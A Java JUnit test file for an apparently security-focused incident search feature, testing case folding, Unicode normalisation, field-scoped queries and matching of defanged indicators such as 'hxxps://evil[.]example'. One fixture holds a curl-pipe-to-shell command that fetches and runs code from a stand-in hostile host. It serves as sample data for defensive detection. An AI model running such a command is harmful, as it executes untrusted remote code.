package io.watchfloor.queue;

import java.text.Normalizer;
import java.util.ArrayList;
import java.util.Collection;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import io.watchfloor.queue.support.RandomTexts;
import io.watchfloor.support.Seeds;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Search for words in texts of any length and script.
 */
class SearchTextTests {

	@Test
	void whatStandsInATextIsFound() {
		Seeds.tryOut(200, SearchTextTests::lookForAPart);
	}

	private static void lookForAPart(long seed) {
		RandomTexts texts = new RandomTexts(new Random(seed));
		String text = texts.text(2000);
		String part = texts.partOf(text);
		SearchText searched = text(List.of("before", text, "after"));
		assertThat(searched.contains(SearchText.fold(part))).as(part).isTrue();
		assertThat(searched.contains(SearchText.fold(part.toUpperCase(Locale.ROOT)))).as(part).isTrue();
	}

	@Test
	void whatDoesNotStandInATextIsNotFoundHoweverItsPartsDo() {
		SearchText text = text(List.of("abcd", "bcde", "cdef"));
		assertThat(text.contains("abcdef")).isFalse();
		assertThat(text.contains("dbc")).isFalse();
		assertThat(text.contains("bcde")).isTrue();
	}

	@ParameterizedTest
	@CsvSource({ "198[.]51[.]100[.]77", "198(.)51(.)100(.)77", "198{.}51{.}100[dot]77", "hxxps://evil[.]example/a",
			"hXXps[:]//evil[.]example/a", "hxxps[://]evil.example/a", "h**ps://evil(dot)example/a",
			"fxp://files[.]evil[.]example", "ada[@]contoso[.]example", "ada[at]contoso[dot]example",
			"2001[:]db8[:][:]7", "ab‹U+202E›gpj.exe", "CONTOSO\\ada", "x[.]y" })
	void aDefangedWordIsFoundAsWhatItStandsForAndAsItStands(String word) {
		SearchText text = text(List.of("198.51.100.77", "https://evil.example/a", "ftp://files.evil.example",
				"ada@contoso.example", "2001:db8::7", "ab\u202Egpj.exe", "contoso\\ada", "x[.]y"));
		assertThat(selects(text, word)).isTrue();
	}

	@ParameterizedTest
	@CsvSource({ "198[.]51[.]100[.]78", "hxxp://evil[.]example/a", "hxxpd", "‹U+FFFFFF›" })
	void nothingElseIsFound(String word) {
		SearchText text = text(List.of("198.51.100.77", "https://evil.example/a", "httpd"));
		assertThat(selects(text, word)).isFalse();
	}

	@Test
	void composedAndDecomposedLettersFindEachOther() {
		String composed = "J\u00FCrgen@contoso.example \uD55C\uAE00";
		String decomposed = Normalizer.normalize(composed, Normalizer.Form.NFD);
		assertThat(decomposed).isNotEqualTo(composed);
		for (String text : List.of(composed, decomposed)) {
			assertThat(text(List.of(text)).contains(SearchText.fold(composed))).isTrue();
			assertThat(text(List.of(text)).contains(SearchText.fold(decomposed))).isTrue();
		}
		String latin = "\u00FCber evil.exe";
		assertThat(SearchText.composed(latin)).isSameAs(latin);
	}

	@Test
	void aTextThatOccursShortlyBeforeIsLeftOut() {
		assertThat(text(List.of("ada@contoso.example", "Ada", "bob"))).hasToString("ada@contoso.example\nbob\n");
	}

	@Test
	@Timeout(30)
	void thirtyThousandTextsAreJoinedWithoutComparingEachWithAll() {
		SearchText text = text(IntStream.range(0, 30_000).mapToObj((number) -> "%040x".formatted(number)).toList());
		assertThat(text.folded().lines()).hasSize(30_000);
	}

	@Test
	void aTextIsLeftOutOnlyWhereItsOwnFieldHasIt() {
		SearchText text = SearchText
			.of(Map.of(SearchField.USER, List.of("ada", "Ada"), SearchField.COMMENT, List.of("by ada", "ada")));
		assertThat(text).hasToString("ada\nby ada\n");
	}

	@Test
	void aFieldsLinesAreToldApartFromThoseOfOthersByAMarkThatNoTextContains() {
		Map<SearchField, List<String>> texts = Stream.of(SearchField.values())
			.collect(Collectors.toMap((field) -> field, (field) -> List.of("ÿõ Z\u0085\uFFFD\u212A", field.name())));
		SearchText text = SearchText.of(texts);
		for (SearchField field : SearchField.values()) {
			assertThat(text.contains(String.valueOf(field.mark()) + "\u00FF")).isFalse();
			assertThat(text.folded()).contains(field.mark() + field.name().toLowerCase(Locale.ROOT) + "\n");
			assertThat(SearchField.of(field.mark())).isEqualTo(field);
		}
		assertThat(text.toString()).startsWith("ÿõ z\u0085\uFFFDk\nid\nÿõ z");
	}

	@ParameterizedTest
	@CsvSource({ "two words", "'two  words'", "TWO\u00A0words", "two‹U+000A›words" })
	void whiteSpaceOfAnyWidthIsASingleSpace(String words) {
		for (String written : List.of("two words", "a two \t\r\n words b", "two\u3000words")) {
			assertThat(selects(text(List.of(written)), words)).as(written).isTrue();
		}
		assertThat(selects(text(List.of("twowords", "two", "words")), words)).isFalse();
	}

	@Test
	void aTermIsFoundInTheFieldsOfItsScopeOnly() {
		SearchText text = SearchText.of(Map.of(SearchField.IP, List.of("10.0.0.5"), SearchField.COMMENT,
				List.of("saw 10.0.0.5 and 10.0.0.6"), SearchField.DEVICE, List.of("pc-10.0.0.6.local")));
		assertThat(selects(text, "ip:10.0.0.5")).isTrue();
		assertThat(selects(text, "ip:10[.]0[.]0[.]5")).isTrue();
		assertThat(selects(text, "ip:10.0.0.6")).isFalse();
		assertThat(selects(text, "device:10.0.0.6")).isTrue();
		assertThat(selects(text, "10.0.0.6")).isTrue();
		assertThat(selects(text, "-ip:10.0.0.6")).isTrue();
		assertThat(selects(text, "-ip:10.0.0.5")).isFalse();
	}

	@Test
	void aMatchHasItsFieldAndTheTextAroundIt() {
		SearchText text = SearchText.of(Map.of(SearchField.NAME, List.of("Überfall"), SearchField.COMMAND_LINE,
				List.of("curl -fsSL  http://évil.example/é | sh")));
		assertThat(new SearchMatcher(SearchTerm.of("hxxp://évil[.]EXAMPLE")).find(text))
			.isEqualTo(new SearchMatch(SearchField.COMMAND_LINE, "curl -fssl ", "http://évil.example", "/é | sh"));
		assertThat(new SearchMatcher(SearchTerm.of("über")).find(text))
			.isEqualTo(new SearchMatch(SearchField.NAME, "", "über", "fall"));
		assertThat(new SearchMatcher(SearchTerm.of("wget")).find(text)).isNull();
	}

	@Test
	void ofALongTextTheBeginningIsSearchedAndOfAnEnormousIncidentTheFirstFields() {
		String text = "a".repeat(SearchText.LONGEST_TEXT - 5) + "inside" + "beyond";
		assertThat(text(List.of(text)).contains("insid")).isTrue();
		assertThat(text(List.of(text)).contains("inside")).isFalse();
		List<String> many = IntStream.range(0, 1000).mapToObj((number) -> number + "x".repeat(3000)).toList();
		SearchText enormous = SearchText
			.of(Map.of(SearchField.COMMAND_LINE, many, SearchField.NAME, List.of("found"), SearchField.IP, many));
		assertThat(enormous.folded().length()).isLessThanOrEqualTo(SearchText.MOST_BYTES);
		assertThat(selects(enormous, "found")).isTrue();
		assertThat(selects(enormous, "ip:600x")).isTrue();
		assertThat(selects(enormous, "ip:999x")).isFalse();
	}

	@Test
	void linesAreReadWithTheirFields() {
		SearchText text = SearchText.of(Map.of(SearchField.IP, List.of("10.0.0.12", "10.0.0.1", "10.0.0.1"),
				SearchField.NAME, List.of("Überweisung an\nAda"), SearchField.URL, List.of("https://evil.example")));
		assertThat(lines(text, SearchField.IP)).containsExactly("NAME überweisung an ada", "IP 10.0.0.12",
				"IP 10.0.0.1");
		assertThat(lines(text, SearchField.DESCRIPTION)).hasSize(4).endsWith("URL https://evil.example");
		assertThat(lines(text, SearchField.ID)).isEmpty();
	}

	private static List<String> lines(SearchText text, SearchField last) {
		List<String> lines = new ArrayList<>();
		text.forEachLine(last,
				(field, start, end) -> lines.add(field + " " + SearchText.unfold(text.folded().substring(start, end))));
		return lines;
	}

	private static SearchText text(Collection<String> texts) {
		return SearchText.of(Map.of(SearchField.NAME, texts));
	}

	/**
	 * Return whether one term, with its prefix, or else the words together select a text.
	 */
	private static boolean selects(SearchText text, String typed) {
		List<SearchTerm> terms = SearchTerms.parse(typed);
		return new SearchMatcher((terms.size() == 1) ? terms.get(0) : SearchTerm.of(typed)).selects(text);
	}

}
